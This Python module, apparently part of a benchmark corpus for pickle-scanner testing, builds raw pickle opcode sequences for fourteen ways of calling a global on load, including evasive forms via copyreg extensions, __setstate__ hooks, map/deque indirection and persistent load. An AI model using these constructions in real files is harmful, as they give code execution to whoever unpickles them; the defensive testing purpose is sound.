"""Every way in which a pickle calls: each takes a global's opcodes and arguments and leaves a value on the stack."""

from __future__ import annotations

from collections.abc import Callable, Mapping

from benchmarks.corpus.gadgets import Gadget
from benchmarks.corpus.opcodes import glob, line, push, short_text, tuple_of

__all__ = ["CALLS", "Call"]

# (gadget, opcodes that push its global) -> opcodes that push the result of the call.
Call = Callable[[Gadget, bytes], bytes]

_FRESH = glob("collections", "OrderedDict") + b")R"


def _items(gadget: Gadget) -> bytes:
    return b"".join(map(push, gadget.arguments))


def _extension(gadget: Gadget, _callee: bytes) -> bytes:
    """Register an extension code in the stream, then use it."""
    register = glob("copyreg", "add_extension") + b"(" + short_text(gadget.module) + short_text(gadget.name)
    return register + b"K\xf0tR0" + b"\x82\xf0" + push(gadget.arguments) + b"R"


def _build(gadget: Gadget, callee: bytes) -> bytes:
    """Set __setstate__ on a fresh object, then its state."""
    hook = b"}" + short_text("__setstate__") + callee + b"s"
    return _FRESH + hook + b"b" + push(gadget.arguments[0] if gadget.arguments else None) + b"b"


def _mapped(gadget: Gadget, callee: bytes) -> bytes:
    """Let a harmless type make the call: deque(map(f, [x]))."""
    values = push(list(gadget.arguments[:1]))
    mapped = glob("builtins", "map") + tuple_of(callee, values) + b"R"
    return glob("collections", "deque") + tuple_of(mapped) + b"R"


CALLS: Mapping[str, Call] = {
    "reduce": lambda gadget, callee: callee + push(gadget.arguments) + b"R",
    "inst": lambda gadget, _: b"(" + _items(gadget) + b"i" + line(gadget.module) + line(gadget.name),
    "obj": lambda gadget, callee: b"(" + callee + _items(gadget) + b"o",
    "newobj": lambda gadget, callee: callee + push(gadget.arguments) + b"\x81",
    "newobj_ex": lambda gadget, callee: callee + push(gadget.arguments) + b"}\x92",
    "build": _build,
    "extension": _extension,
    "discarded": lambda gadget, callee: callee + push(gadget.arguments) + b"R0" + push({"w": [1.0]}),
    "obj, discarded": lambda gadget, callee: b"(" + callee + _items(gadget) + b"o0" + push([1, 2]),
    "as a state": lambda gadget, callee: _FRESH + callee + push(gadget.arguments) + b"Rb",
    "as a key": lambda gadget, callee: b"}" + callee + push(gadget.arguments) + b"RNs",
    "by a map": _mapped,
    "as a factory": lambda _, callee: glob("collections", "defaultdict") + tuple_of(callee) + b"R",
    "persistent": lambda _, callee: (
        tuple_of(short_text("storage"), callee, short_text("0"), short_text("cpu"), b"K\x01") + b"Q"
    ),
}
